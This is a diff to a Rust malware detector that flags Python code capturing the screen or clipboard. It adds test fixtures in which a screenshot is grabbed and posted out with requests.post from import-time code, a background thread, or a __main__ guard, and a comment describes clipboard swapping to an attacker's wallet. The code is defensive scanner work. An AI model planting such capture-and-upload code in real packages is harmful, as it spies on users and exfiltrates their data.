@@ -24,7 +24,7 @@ use std::sync::LazyLock;
 
 pub(crate) static META: DetectorMeta = DetectorMeta {
     id: "hunting.screen-capture",
-    revision: 2,
+    revision: 3,
     title: "Captures the screen or reads the clipboard.",
     category: Category::Hunting,
     severity: Severity::Low,
@@ -118,9 +118,7 @@ impl Detector for ScreenCapture {
         let send = if src.python { sinks::network(src).into_iter().next().map(|s| s.name) } else { None };
         // Captured and sent when the module is imported: as bad as at install.
         let on_import = |off: usize| {
-            let blocks = super::exec_install_hook::top_blocks(src);
-            file.path.rsplit(['/', '!']).next() != Some("__main__.py")
-                && super::hunting_system_info::runs_on_import(src, &blocks, off)
+            file.path.rsplit(['/', '!']).next() != Some("__main__.py") && pysrc::runs_on_import_at(src, off)
         };
         // A clipboard hijacker needs no network: it reads the clipboard and writes a fixed
         // string back (the attacker's wallet address in place of the one the user copied).
@@ -238,6 +236,27 @@ mod tests {
                     Runtime,
                     "def _go():\n    ImageGrab.grab().save(b)\n    requests.post(U, data=b)\n_go()\n",
                     Some((2, "ImageGrab.grab + requests.post", Critical)),
+                ),
+                (
+                    "screenshot sent two calls deep from import-time code",
+                    "pkg/__init__.py",
+                    Runtime,
+                    "def _snap():\n    ImageGrab.grab().save(b)\n    requests.post(U, data=b)\ndef _go():\n    _snap()\n_go()\n",
+                    Some((2, "ImageGrab.grab + requests.post", Critical)),
+                ),
+                (
+                    "screenshot sent from a thread started on import",
+                    "pkg/__init__.py",
+                    Runtime,
+                    "import threading\ndef _snap():\n    ImageGrab.grab().save(b)\n    requests.post(U, data=b)\nthreading.Thread(target=_snap, daemon=True).start()\n",
+                    Some((3, "ImageGrab.grab + requests.post", Critical)),
+                ),
+                (
+                    "screenshot tool's upload command run under a __main__ guard",
+                    "pkg/shot.py",
+                    Runtime,
+                    "def _snap():\n    ImageGrab.grab().save(b)\n    requests.post(U, data=b)\nif __name__ == '__main__':\n    _snap()\n",
+                    Some((2, "ImageGrab.grab + requests.post", High)),
                 ),
                 (
                     "clipboard swapper: read, then a fixed address written back",
